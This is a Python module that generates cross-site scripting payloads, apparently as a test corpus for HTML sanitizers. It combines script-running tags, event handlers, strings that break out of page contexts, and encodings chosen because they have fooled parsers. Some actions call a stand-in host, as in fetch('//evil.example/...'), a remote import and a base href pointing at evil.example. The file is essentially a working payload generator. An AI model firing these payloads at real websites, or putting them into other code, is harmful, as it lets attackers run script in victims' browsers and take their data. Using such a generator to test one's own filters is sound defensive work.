"""Script injection, generated: what runs × where it hides × how it is written. The same list for the same seed.

Each payload sets a mark of its own on the window, or asks for an address of its own, so that one that ran can be named.
"""
import base64
import html
import random
from urllib.parse import quote

EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle",
          "onbeforetoggle", "onbegin", "onstart", "onpageshow", "onresize", "onscroll", "oncontentvisibilityautostatechange",
          "onbeforematch", "oninput", "onauxclick", "onsecuritypolicyviolation", "onunhandledrejection"]


def actions(number):
    """Ways to leave a trace."""
    return [f"ran({number})", f"window.ran({number})", f"top.ran&&top.ran({number})", f"alert({number})",
            f"setTimeout('ran({number})')", f"fetch('//evil.example/{number}')", f"(new Image).src='//evil.example/{number}'",
            f"location='javascript:ran({number})'", f"[{number}].map(ran)", f"Function('ran({number})')()",
            f"document.title='ran {number}'", f"import('//evil.example/{number}.js')", f"ran`{number}`"]


def elements(do, event):
    """Tags that run a script by themselves or by an event."""
    data = quote(f"<script>{do}</script>")
    return [
        f"<script>{do}</script>", f"<script type=module>{do}</script>", f"<svg><script>{do}</script></svg>",
        f"<img src=x {event}={do}>", f"<svg {event}={do}>", f"<body {event}={do}>", f"<input autofocus {event}={do}>",
        f"<details open {event}={do}>", f"<video><source {event}={do}></video>", f"<audio src=x {event}={do}>",
        f"<iframe src=\"javascript:{do}\"></iframe>", f"<iframe srcdoc=\"<script>parent.{do}</script>\"></iframe>",
        f"<object data=\"javascript:{do}\"></object>", f"<embed src=\"javascript:{do}\">",
        f"<a href=\"javascript:{do}\" autofocus {event}={do}>a</a>", f"<form action=\"javascript:{do}\"><input type=submit autofocus {event}={do}>",
        f"<math><mtext></p><style><img src=x {event}={do}></style>", f"<svg><animate {event}={do} attributeName=x dur=1s>",
        f"<marquee {event}={do}>a</marquee>", f"<select autofocus {event}={do}><option>a</select>",
        f"<style>@keyframes x{{}}</style><p style=\"animation-name:x\" {event}={do}>a</p>",
        f"<link rel=stylesheet href=x {event}={do}>", f"<meta http-equiv=refresh content=\"0;url=javascript:{do}\">",
        f"<template shadowrootmode=open><img src=x {event}={do}></template>", f"<dialog open {event}={do}>a</dialog>",
        f"<button popovertarget=p autofocus {event}={do}>a</button><div popover id=p {event}={do}>",
        f"<object data=\"data:text/html,{data}\"></object>", f"<base href=//evil.example/><script src=a.js></script>",
        f"<textarea autofocus {event}={do}></textarea>", f"<isindex type=image src=x {event}={do}>",
    ]


CONTEXTS = [  # How it breaks out of where the page puts it.
    "{}", "\">{}", "'>{}", "--><!-- -->{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "</td></tr></table>{}",
    "<!--<img alt=\"-->{}\">", "]]>{}", "</select></option>{}", "</noscript>{}", "`>{}", "</bdi></h1>{}", "</pre></details>{}",
    "\"/>{}", "</a>{}", "</span></div></section>{}", "&quot;>{}", "</summary>{}", "</label></fieldset></form>{}",
]


def mixed_case(text, chance):
    return "".join(letter.upper() if letter.isascii() and chance.random() < 0.5 and 0 < at < 8 else letter
                   for at, letter in enumerate(text))


ENCODINGS = [  # How it is written: plain, or in one of the ways that parsers have been fooled with.
    lambda text, chance: text,
    lambda text, chance: text.replace("<", "<\u0000", 1),
    mixed_case,
    lambda text, chance: text.replace(" ", "/", 1),
    lambda text, chance: text.replace(" ", "\t", 1),
    lambda text, chance: text.replace(" ", "\u000c", 1),
    lambda text, chance: html.escape(text),
    lambda text, chance: "".join(f"&#{ord(letter)};" if letter in "<>\"'" else letter for letter in text),
    lambda text, chance: "".join(f"&#x{ord(letter):x}" if letter in "<>\"'" else letter for letter in text),
    lambda text, chance: quote(text),
    lambda text, chance: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text, chance: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text, chance: text.replace("javascript:", "java&Tab;script:").replace("on", "\u200bon", 1),
    lambda text, chance: text + "<" + text,
    lambda text, chance: text.replace(">", " //", 1),
    lambda text, chance: text.replace("script", "scr\u00adipt", 1),
    lambda text, chance: text.replace("<", "<<", 1),
    lambda text, chance: "data:text/html;base64," + base64.b64encode(text.encode()).decode(),
    lambda text, chance: "{{{" + text + "}}}",
    lambda text, chance: "\u202e" + text,
    lambda text, chance: "+ADw-script+AD4-" + text,
]


def generate(count=1000, seed=8):
    """`count` different payloads: plain ones first for each context, then drawn combinations of everything."""
    chance = random.Random(seed)
    out, known = [], set()
    while len(out) < count:
        number = len(out)
        do = chance.choice(actions(number))
        event = chance.choice(EVENTS + ["onerror"] * 8 + ["onload"] * 4 + ["onfocus"] * 6 + ["ontoggle"] * 3)
        element = chance.choice(elements(do, event))
        context = CONTEXTS[number % len(CONTEXTS)]
        encode = ENCODINGS[0] if number % 3 == 0 else chance.choice(ENCODINGS)
        payload = encode(context.replace("{}", element), chance)
        if payload not in known:
            known.add(payload)
            out.append(payload)
    return out
